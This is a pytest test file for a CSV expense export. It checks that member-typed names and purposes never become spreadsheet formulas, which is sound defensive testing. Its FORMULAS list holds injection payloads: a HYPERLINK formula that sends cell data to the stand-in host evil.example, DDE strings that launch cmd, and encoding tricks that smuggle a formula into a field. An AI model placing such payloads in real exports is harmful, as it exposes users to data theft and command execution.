"""The treasurer sees what the members typed; nothing of it becomes a formula."""

import csv
import io

import pytest
import subject
from subject import Claim


def rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_functional_rows():
    claims = [Claim("Ann Lee", "train, 2nd class", 1250), Claim('Bo "B" Ray', "tea\nand cake", 5), Claim("Zoé", "", -300)]
    assert rows(subject.export_expenses(claims)) == [
        ["name", "purpose", "amount"],
        ["Ann Lee", "train, 2nd class", "12.50"],
        ['Bo "B" Ray', "tea\nand cake", "0.05"],
        ["Zoé", "", "-3.00"],
    ]


def test_functional_none():
    assert rows(subject.export_expenses([])) == [["name", "purpose", "amount"]]


def test_functional_signs_within_a_text():
    claim = Claim("Ann-Marie", "2+2=4, a@b.example", 100)
    assert rows(subject.export_expenses([claim]))[1] == ["Ann-Marie", "2+2=4, a@b.example", "1.00"]


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "==1+1",
    '"=1+1',
    'x","=1+1',
    "x\r\n=1+1,y",
    "=1+1;=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("field", ["name", "purpose"])
def test_security_no_cell_is_a_formula(formula, field):
    values = {"name": "Ann", "purpose": "tea", "cents": 100, field: formula}
    try:
        table = rows(subject.export_expenses([Claim(**values)]))
    except Exception:
        return
    for row in table:
        assert len(row) in (0, 3)
        for number, cell in enumerate(row):
            first = cell.lstrip("\t\r")[:1]
            assert first not in ("=", "+", "@") and (first != "-" or number == 2), cell
